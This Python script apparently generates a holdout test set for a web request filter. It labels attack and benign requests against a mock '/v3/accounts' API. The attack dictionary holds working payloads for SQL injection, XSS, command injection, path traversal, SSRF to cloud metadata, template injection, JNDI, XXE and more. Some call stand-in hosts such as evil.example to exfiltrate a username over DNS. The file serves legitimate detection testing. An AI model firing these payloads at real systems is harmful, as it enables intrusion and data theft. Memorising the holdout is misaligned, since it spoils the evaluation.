"""Second holdout: written after all tuning and measured once, untouched.
Payloads and benign values from domains the other files do not cover."""

import json
import os
import urllib.parse

UA = "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36"

ATTACKS = {
    "sql_injection": ["1' AND 1=(SELECT COUNT(*) FROM tablenames); --", "' or 'unusual' = 'unusual'", "10 OR 'a'='a'",
                      "1 UNION SELECT NULL, table_name FROM all_tables--", "admin'/**/OR/**/'1'='1", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
                      "1 AND 5=5 ORDER BY 1--", "'||pg_sleep(10)--", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT version())),1)--",
                      "\") OR (\"x\"=\"x", "1 OR ROWNUM=1", "' AND 1 IN (SELECT username FROM users)--"],
    "xss": ["<svg><set attributeName=href to=javascript:alert(1) />", "<img src=\"x\" onerror=\"&#97;lert(1)\">",
            "<a href=\"  javascript:void(alert(1))\">x</a>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "\"><img src onerror=alert(1)>",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>", "<div onmouseenter=\"alert`1`\">x</div>",
            "'-alert(1)-'", "<math href=\"javascript:alert(1)\">CLICK</math>", "<embed src=//evil.example/x.swf>"],
    "command_injection": ["| cat /proc/version", "; id #", "`ping -c 3 evil.example`", "$(nslookup $(whoami).evil.example)",
                          "&& echo pwned > /tmp/p", "%0Acat%20/etc/passwd", "; bash -c 'id'", "|timeout 5 sleep 10",
                          "a; ruby -e 'puts 1'", "& powershell.exe -nop -c \"iex(1)\""],
    "path_traversal": ["../../../../../../etc/passwd%00", "..//..//..//etc//passwd", "/././././etc/passwd",
                       "....////....////etc/hosts", "..\\..\\..\\inetpub\\wwwroot\\web.config", "file:///c:/boot.ini",
                       "../../../../proc/self/cwd/config.py", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"],
    "ssrf": ["http://169.254.169.254/latest/user-data", "http://[::ffff:169.254.169.254]/", "http://0251.0376.0251.0376/",
             "http://2852039166/", "https://metadata.google.internal/computeMetadata/v1beta1/", "http://127.0.0.1:2379/v2/keys",
             "gopher://localhost:5432/_x", "http://[0:0:0:0:0:0:0:1]/", "http://10.10.10.10/", "ftp://127.0.0.1/"],
    "template_injection": ["{{4*4}}[[5*5]]", "${{3*3}}", "{{''.__class__.mro()[1]}}", "{{self}}{{7*7}}", "#{session}${7*7}",
                           "{{ config['SECRET_KEY'] }}{{7*'7'}}", "<%= `ls` %>", "${__import__('os').popen('id').read()}"],
    "jndi_injection": ["${jndi:ldap://10.0.0.9:1389/o}", "${${lower:jn}${lower:di}:ldap://e.example/p}", "${${upper:j}${upper:n}${upper:d}${upper:i}:rmi://e.example/x}",
                       "${jndi:dns://${hostName}.e.example}"],
    "ldap_injection": ["*)(&(objectClass=*)", "jdoe*))(|(uid=*", "*)(cn=*))(|(cn=*", ")(|(uid=*))"],
    "xpath_injection": ["' or '' = '", "' or 1=1]%00", "1' or '1' = '1' or ''='", "x' or name(/*)='x"],
    "xxe": ['<?xml version="1.0"?><!DOCTYPE u [<!ENTITY e SYSTEM "file:///etc/group">]><u><n>&e;</n></u>',
            '<!DOCTYPE r [<!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/passwd\'>">%a;]><r>&b;</r>'],
    "crlf_injection": ["%0d%0aLocation:%20https://e.example/", "abc%0d%0aSet-Cookie:%20a=b;%20Path=/"],
    "nosql_injection": ["user[$regex]=^a&pass[$ne]=", "filter[$where]=this.a==1"],
    "prototype_pollution": ['{"__proto__":{"admin":1}}', '{"x":{"constructor":{"prototype":{"y":2}}}}'],
}

BENIGN = [
    ("q", "Dr. O'Malley's clinic hours"), ("q", "blood pressure 120/80 mmHg"), ("notes", "Patient reports pain (7/10) in left knee; prescribed 400mg ibuprofen 3x/day."),
    ("q", "flights from NYC to L.A. on 12/24"), ("notes", "Check-in after 3 PM; late check-out until 1 PM upon request."),
    ("memo", "Invoice #2024-0042: 3 x widgets @ $4.99 = $14.97 (incl. tax)"), ("q", "what's 15% of 200?"),
    ("bio", "Full-stack dev. I write Go, Rust & TypeScript. Ex-@BigCorp. Opinions my own."),
    ("comment", "Looks good to me! Just one nit: rename `getData()` to `fetchData()` for consistency."),
    ("comment", "The SQL error said: syntax error near 'FROM' at line 1"), ("q", "how to use grep -r with --include"),
    ("address", "Flat 3/2, 10 Rue d'Alésia, 75014 Paris"), ("q", "\"machine learning\" AND \"healthcare\""),
    ("comment", "Terms: net 30; 2% discount if paid within 10 days."), ("title", "Q3 Results — Revenue up 12%; EBITDA flat"),
    ("q", "select all that apply"), ("q", "order by price"), ("q", "union station chicago"), ("comment", "¿Dónde está la estación?"),
    ("comment", "Спасибо за быструю доставку!"), ("q", "Ελληνικά βιβλία"), ("comment", "בדיקה של טקסט בעברית"),
    ("comment", "Reminder: {{meeting}} moved to Friday"), ("url", "https://example.com/path?redirect=%2Fhome&lang=en"),
    ("url", "https://www.example.co.uk/a/b/c.html?x=1&y=2#top"), ("filename", "Q3-report_final(2).xlsx"),
    ("comment", "Step 1: cd into the repo; step 2: run make"), ("comment", "C'est génial !"),
    ("comment", "<ul><li>Fast</li><li>Cheap</li></ul>"), ("comment", "See attached (logs.zip) & screenshot.png"),
    ("q", "rock & roll hall of fame"), ("q", "50/50 raffle"), ("comment", "Email: support@example.com | Tel: 0800-123-456"),
    ("json", "{\"theme\":\"dark\",\"fontSize\":14}"), ("q", "c:\\program files"), ("q", "where am i"),
    ("comment", "It's a 2-for-1 deal -- or so they say."), ("comment", "Use ${HOME}/bin in your PATH"),
]


def main(out_dir):
    cases = []
    n = 0
    for category, payloads in sorted(ATTACKS.items()):
        for p in payloads:
            if category == "nosql_injection":
                placements = [("GET", "/v3/accounts?" + p, None, [])]
            elif category == "prototype_pollution":
                placements = [("PUT", "/v3/accounts/7", p, [["content-type", "application/json"]])]
            elif category == "xxe":
                placements = [("POST", "/v3/import", p, [["content-type", "application/xml"]])]
            elif category == "crlf_injection":
                placements = [("GET", "/v3/r?u=" + urllib.parse.quote(p, safe="%"), None, [])]
            else:
                placements = [("GET", "/v3/accounts?search=" + urllib.parse.quote(p, safe="%" if "%0" in p else ""), None, []),
                              ("POST", "/v3/accounts", urllib.parse.urlencode({"display_name": "Jo", "search": p}), [["content-type", "application/x-www-form-urlencoded"]])]
            for method, target, body, headers in placements:
                n += 1
                c = {"id": "holdout2-attack-%03d" % n, "label": "attack", "category": category, "method": method,
                     "target": target, "headers": [["user-agent", UA]] + headers}
                if body is not None:
                    c["body"] = body
                cases.append(c)
    for field, text in BENIGN:
        for method in ("GET", "POST"):
            n += 1
            if method == "GET":
                c = {"id": "holdout2-benign-%03d" % n, "label": "benign", "category": "general", "method": "GET",
                     "target": "/v3/accounts?%s=%s" % (field, urllib.parse.quote(text, safe="")), "headers": [["user-agent", UA]]}
            else:
                c = {"id": "holdout2-benign-%03d" % n, "label": "benign", "category": "general", "method": "POST",
                     "target": "/v3/accounts", "headers": [["user-agent", UA], ["content-type", "application/json"]],
                     "body": json.dumps({"profile": {field: text}})}
            cases.append(c)
    os.makedirs(out_dir, exist_ok=True)
    with open(os.path.join(out_dir, "holdout2.jsonl"), "w", encoding="utf-8") as f:
        for c in cases:
            f.write(json.dumps(c, ensure_ascii=False, sort_keys=True) + "\n")
    print("holdout2: %d cases" % len(cases))
